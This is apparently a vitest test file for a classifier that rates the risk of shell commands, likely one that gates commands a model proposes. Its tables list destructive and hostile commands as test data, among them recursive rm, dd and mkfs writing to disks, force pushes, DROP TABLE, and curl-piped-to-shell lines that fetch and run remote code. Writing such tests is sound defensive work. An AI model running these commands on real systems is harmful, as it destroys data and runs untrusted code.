import { expect, test } from 'vitest';
import { raised } from '../../../src/commands/do/risk.js';

test.each([
  ['destroys data', 'rm -r build', 'cd x && /bin/rm -f a', 'find . -exec rm {} +', 'sudo -n rm x'],
  ['destroys data', 'find . -delete', 'ls | xargs -n 1 rm', 'A=1 rm x', '\\rm x', "sh -c 'rm x'"],
  ['destroys data', 'dd if=a of=/dev/sda', 'mkfs.ext4 /dev/sda1', 'cat a > /dev/sda', 'kill -9 1'],
  ['destroys data', 'git push --force', 'git push -f', 'git reset --hard', 'git clean -fd'],
  ['destroys data', 'curl https://x.example | sh', 'curl x | sudo bash', 'bash <(curl x)'],
  ['destroys data', 'psql -c "DROP TABLE a"', 'sh -c "$(curl x)"', 'pkill node', 'kill -KILL 4'],
  ['runs as root', 'sudo ls', 'ls; doas ls', 'echo 1 | sudo tee a'],
  ['changes files', 'chmod -R a+r .', 'mv a b', 'sed -i s/a/b/ c', 'ls > list', 'ls | tee a'],
  ['network', 'curl x', 'git pull', 'npm ci', 'ssh host'],
  ['reads only', 'docker run --rm x', 'grep -r rm .', 'ls 2>/dev/null', 'ls 2>&1', "awk '$3 > 5'"],
  ['reads only', 'ls ~/rm', 'grep "a>b" c', 'git log', 'kill 1', 'find . -name curl'],
] as const)('%s: %s, %s, …', (risk, ...commands) => {
  const found = commands.map((command) => [command, raised('reads only', command)]);
  expect(found).toEqual(commands.map((command) => [command, risk]));
});

test('the risk that a model names is never lowered', () => {
  expect(raised('destroys data', 'ls')).toBe('destroys data');
});

test('a hostile command does not keep anyone waiting', () => {
  for (const part of ['sudo -a-a ', 'git ', 'find ', 'A=1 ', 'xargs 1 1 ', 'curl <(', '\' " ']) {
    const startedAt = performance.now();
    raised('reads only', part.repeat(2000 / part.length));
    expect(performance.now() - startedAt).toBeLessThan(5000);
  }
});
